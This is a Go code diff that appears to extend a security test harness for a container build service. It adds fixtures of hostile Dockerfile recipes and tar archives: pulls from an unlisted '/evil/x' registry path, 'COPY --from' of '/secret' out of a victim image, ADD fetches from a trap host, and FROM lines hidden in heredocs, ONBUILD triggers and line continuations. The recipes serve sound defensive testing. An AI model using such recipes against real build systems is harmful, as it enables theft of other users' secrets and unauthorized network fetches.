@@ -26,7 +26,19 @@ func archives(f facts) (facts, error) {
 	if err != nil {
 		return nil, err
 	}
-	all := facts{}
+	all := facts{"{kitrecipe}": recipe}
+	if f["{unlisted}"] != "" {
+		for name, lines := range map[string][]string{
+			"{unlistedfrom}":    {"FROM {unlisted}/evil/x"},
+			"{unlistedfromvar}": {"ARG X={unlisted}/evil/x", "FROM $X"},
+			"{unlistedstage}":   {"FROM {unlisted}/evil/x AS busybox", "FROM busybox"},
+			"{unlistedcopy}":    {"FROM {image}", "COPY --from={unlisted}/evil/x / /x"},
+		} {
+			if all[name], err = pack(recipes(lines...)); err != nil {
+				return nil, err
+			}
+		}
+	}
 	for name, members := range map[string][]member{
 		"{tarclimb}":  {written},
 		"{tarlink}":   {{head: link}, file("d/written", "x")},
@@ -39,8 +51,8 @@ func archives(f facts) (facts, error) {
 		"{buildfromid}":    recipes("ARG X={victimimageid}", "FROM $X", look),
 		"{buildcopy}":      recipes("FROM {image}", "COPY --from={victimimage} /secret /", look),
 		"{buildcopyid}":    recipes("FROM {image}", "COPY --from={victimimageid} /secret /", look),
-		"{buildadd}":       recipes("FROM {image}", "ADD http://127.0.0.1:1/x /"),
-		"{buildaddvar}":    recipes("FROM {image}", "ARG u=http://127.0.0.1:1/x", "ADD $u /"),
+		"{buildadd}":       recipes("FROM {image}", "ADD http://{trap}/x /"),
+		"{buildaddvar}":    recipes("FROM {image}", "ARG u=http://{trap}/x", "ADD $u /"),
 		"{buildtrigger}":   recipes("FROM {image} AS a", "ONBUILD COPY --from={victimimage} /secret /", "FROM a", look),
 		"{buildheredoc}":   recipes("FROM {image}", "RUN <<EOF", "FROM {victimimage}", "EOF", look),
 		"{buildescape}":    recipes("FROM {image}", `RUN true \\`, "FROM {victimimage}", look),
